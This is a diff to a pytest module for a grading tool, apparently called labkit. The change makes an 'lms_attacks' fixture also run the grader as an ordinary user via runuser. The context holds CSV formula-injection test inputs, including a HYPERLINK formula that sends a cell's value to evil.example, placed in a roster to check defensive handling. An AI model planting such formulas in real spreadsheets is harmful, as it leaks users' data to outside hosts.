@@ -293,12 +293,28 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
 FORMULA_IDS = ("=HYPERLINK(1)", "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx")
 
 
-@pytest.fixture(scope="module")
-def lms_attacks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+@pytest.fixture(scope="module", params=["test-user", ORDINARY_USER])
+def lms_attacks(request: pytest.FixtureRequest) -> Any:
+    """The class graded as the test user and, when that is root, as an ordinary user."""
+    if request.param == ORDINARY_USER:
+        if os.geteuid() != 0:
+            pytest.skip("already running as an ordinary user (see the test-user run)")
+        try:
+            pwd.getpwnam(ORDINARY_USER)
+        except KeyError:
+            pytest.skip(f"no user {ORDINARY_USER} on this machine")
+    base = Path(tempfile.mkdtemp(prefix="labkit-lms-attacks-"))
+    os.chmod(base, 0o755)
+    try:
+        yield _grade_lms_attacks(base, request.param if request.param == ORDINARY_USER else None)
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _grade_lms_attacks(base: Path, user: str | None) -> dict[str, Any]:
     from labkit.grading.classlist import parse_time
 
     builder = Builder(json.loads(SOLUTION.read_text()))
-    base = tmp_path_factory.mktemp("lms-attacks")
     subs, out = base / "class", base / "out"
     subs.mkdir()
     correct = json.dumps(builder.correct())
@@ -327,12 +343,21 @@ def lms_attacks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
         writer.writerow([FORMULA_NAME, "202", "@SUM(1+1)", "+1+1", "-2+3", "eve@example.edu"])
         for student in ("forger/forger", "loose", "ontime"):
             writer.writerow([f"Student {student}", student, "", "", "A", ""])
-    proc = subprocess.run(
-        [sys.executable, "-m", "labkit.cli", "grade", str(subs), "--out", str(out), "--roster", str(roster),
-         "--due", LMS_DUE, "--late-penalty", "5", "--late-from-file-times", "--assignment", "users"],
-        capture_output=True, text=True, cwd=base, timeout=600,
-        env={**{k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")},
-             "XDG_CONFIG_HOME": str(base / "config"), "TMPDIR": str(base)})
+    env = {**{k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")},
+           "XDG_CONFIG_HOME": str(base / "config"), "TMPDIR": str(base)}
+    cmd = [sys.executable, "-m", "labkit.cli", "grade", str(subs), "--out", str(out), "--roster", str(roster),
+           "--due", LMS_DUE, "--late-penalty", "5", "--late-from-file-times", "--assignment", "users"]
+    if user is not None:
+        python = _python_for(user, base)
+        if python is None:
+            pytest.skip(f"no Python that {user} can run here")
+        uid = pwd.getpwnam(user).pw_uid
+        for folder, _, files in os.walk(base):
+            for name in [folder, *(os.path.join(folder, f) for f in files)]:
+                os.chown(name, uid, uid, follow_symlinks=False)
+        cmd = ["runuser", "-u", user, "--", "env", f"HOME={base}", f"XDG_CONFIG_HOME={base / 'config'}",
+               f"TMPDIR={base}", f"PATH={os.environ.get('PATH', '')}", python, *cmd[1:]]
+    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=base, timeout=600, env=env)
     book = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
     grades = {r["student"]: r for r in csv.DictReader(book)}
     return {"proc": proc, "out": out, "grades": grades, "due": due, "roster": roster}
